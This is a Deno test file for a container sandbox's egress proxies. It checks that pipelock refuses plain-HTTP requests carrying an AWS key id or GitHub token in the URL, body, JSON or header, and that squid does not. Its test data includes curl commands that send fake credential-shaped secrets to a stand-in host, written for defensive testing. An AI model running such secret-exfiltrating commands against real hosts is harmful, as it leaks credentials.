import assert from "node:assert/strict";
import type { ProxyName } from "../../lib/manifest/model.ts";
import { builtImages, ended, engineProxies, engineRuntimes, Workbench } from "../support/engine.ts";
import { closedNetwork, startRecorder } from "../support/recorder.ts";
import { launchBottle } from "../support/launched_bottle.ts";

const runtimes = await engineRuntimes();
const proxies = runtimes.includes("runc") ? await engineProxies() : [];

/** Of the forms of an AWS access key id and of a GitHub token; nobody has them. */
const KEY_ID = ["AK", "IA", "Q3EGXMPLR7TVBN2K"].join("");
const TOKEN = ["gh", "p_", "0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"].join("");

/** What leaves the bottle, one `curl` each; only `leaks` carry a secret. */
const REQUESTS = {
  leaks: [
    { path: "/url", words: `'http://deb.test/url?q=${KEY_ID}'` },
    { path: "/body", words: `--data 'note=${TOKEN}' http://deb.test/body` },
    { path: "/json", words: `--json '{"a":["${KEY_ID}"]}' http://deb.test/json` },
    { path: "/header", words: `--header 'Authorization: Bearer ${TOKEN}' http://deb.test/header` },
  ],
  twins: [
    { path: "/url-twin", words: "'http://deb.test/url-twin?q=AKIA'" },
    { path: "/body-twin", words: "--data 'note=ghp_' http://deb.test/body-twin" },
    { path: "/json-twin", words: `--json '{"a":["AKIA"]}' http://deb.test/json-twin` },
    { path: "/header-twin", words: "--header 'Authorization: Bearer none' http://deb.test/header-twin" },
  ],
} as const;

/** Sends all requests from a bottle: the paths that arrived, what arrived, and the rows of `logs --json`. */
async function sent(proxy: ProxyName): Promise<{
  readonly paths: readonly (string | undefined)[];
  readonly text: string;
  readonly refused: readonly unknown[];
}> {
  const { agent } = await builtImages();
  await using network = await closedNetwork("203.0.113");
  await using recorder = await startRecorder({ image: agent, network: network.name, aliases: ["deb.test"] });
  await using bench = await Workbench.create();
  await bench.manifest({
    bottle: {
      egress: {
        defaults: false,
        allowlist: [{ host: "deb.test", http: true }],
        networks: [network.name],
      },
    },
    agent: { command: ["sleep", "1234"] },
  });
  await using launched = await launchBottle(bench, { proxy, runtime: "runc" });
  const all = [...REQUESTS.leaks, ...REQUESTS.twins];
  await launched.run(all.map(({ words }) => `curl --silent --max-time 8 ${words}`).join("\n"));
  const { stdout } = await ended(bench.spawn(["logs", bench.agent, "--json", "--blocked"]));
  const text = (await recorder.texts()).join("\n");
  return {
    paths: [...text.matchAll(/^(?:GET|POST) ([^ ?]+)/gm)].map(([, path]) => path).toSorted(),
    text,
    refused: stdout.split("\n").filter((line) => line !== "").map((line) => JSON.parse(line))
      .map(({ host, port, reason, times }) => `${host}:${port} ${reason} ×${times}`),
  };
}

const pathsOf = (requests: readonly { readonly path: string }[]): readonly string[] =>
  requests.map(({ path }) => path).toSorted();

Deno.test({
  name: "pipelock refuses known forms of tokens in URL, body and header of plain HTTP, and logs says so",
  ignore: !proxies.includes("pipelock"),
  async fn(): Promise<void> {
    const { paths, text, refused } = await sent("pipelock");

    assert.deepEqual(paths, pathsOf(REQUESTS.twins));
    assert.ok(!text.includes(KEY_ID) && !text.includes(TOKEN), text);
    assert.deepEqual(refused, [
      "deb.test:80 looks like a secret: AWS Access ID ×1",
      "deb.test:80 looks like a secret: GitHub Token ×1",
      "deb.test:80 looks like a secret: AWS Access ID ×1",
      "deb.test:80 looks like a secret: GitHub Token ×1",
    ]);
  },
});

Deno.test({
  name: "the same tokens arrive where nobody looks for them",
  ignore: !proxies.includes("squid"),
  async fn(): Promise<void> {
    const { paths, text, refused } = await sent("squid");

    assert.deepEqual(paths, pathsOf([...REQUESTS.leaks, ...REQUESTS.twins]));
    assert.equal(text.split(KEY_ID).length - 1, 2);
    assert.equal(text.split(TOKEN).length - 1, 2);
    assert.deepEqual(refused, []);
  },
});
